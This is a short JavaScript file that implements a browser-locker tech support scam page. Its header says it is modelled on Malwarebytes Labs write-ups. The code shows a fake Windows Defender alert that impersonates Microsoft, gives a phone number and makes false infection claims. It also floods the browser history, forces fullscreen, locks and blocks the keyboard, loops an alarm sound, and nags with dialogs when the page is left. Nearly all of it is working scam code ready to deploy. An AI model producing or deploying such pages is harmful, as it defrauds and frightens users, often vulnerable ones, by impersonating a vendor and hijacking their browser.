// browlock, written from Malwarebytes Labs' series on browser lockers and tech support scams
// reached through malvertising (Jérôme Segura and others, 2017-2020, including the "evil
// cursor" and history-flooding write-ups): a landing page that imitates a Windows security
// alert with a phone number, floods the history so Back does not leave, goes full screen and
// locks the keyboard on the first click, plays an alarm, and nags with dialogs on unload.
(function () {
  var phone = "+1 (800) 555-0199";
  var box = document.createElement("div");
  box.id = "wd-alert";
  box.style.cssText = "position:fixed;inset:0;z-index:2147483647;background:#0078d7;color:#fff;font:16px Segoe UI,Arial;padding:8% 10%;cursor:none";
  box.innerHTML = "<h1>Windows Defender - Security Warning</h1>" +
    "<p>** ACCESS TO THIS PC HAS BEEN BLOCKED FOR SECURITY REASONS **</p>" +
    "<p>Your computer has alerted us that it has been infected with a Trojan Spyware. " +
    "The following data has been compromised: Email Credentials, Banking Passwords, Facebook Login, Pictures &amp; Documents.</p>" +
    "<p>Call Microsoft Support immediately: <b style='font-size:28px'>" + phone + "</b> (Toll Free)</p>";
  (document.body || document.documentElement).appendChild(box);
  for (var i = 0; i < 40; i++) history.pushState({ n: i }, "", location.pathname + "?err=0x800VDS" + i);
  window.addEventListener("popstate", function () { history.pushState({}, "", location.href); });
  var audio = new Audio("https://support-alert-win.invalid/media/alarm.mp3");
  audio.loop = true;
  document.addEventListener("click", function once() {
    document.removeEventListener("click", once);
    var el = document.documentElement;
    (el.requestFullscreen || el.webkitRequestFullscreen || function () {}).call(el);
    if (navigator.keyboard && navigator.keyboard.lock) navigator.keyboard.lock();
    audio.play();
  });
  document.addEventListener("keydown", function (e) { e.preventDefault(); e.stopPropagation(); return false; }, true);
  window.onbeforeunload = function () { return "Call Microsoft Support: " + phone; };
  setTimeout(function () { alert("Windows Security Alert\nCall support immediately: " + phone); }, 1500);
})();
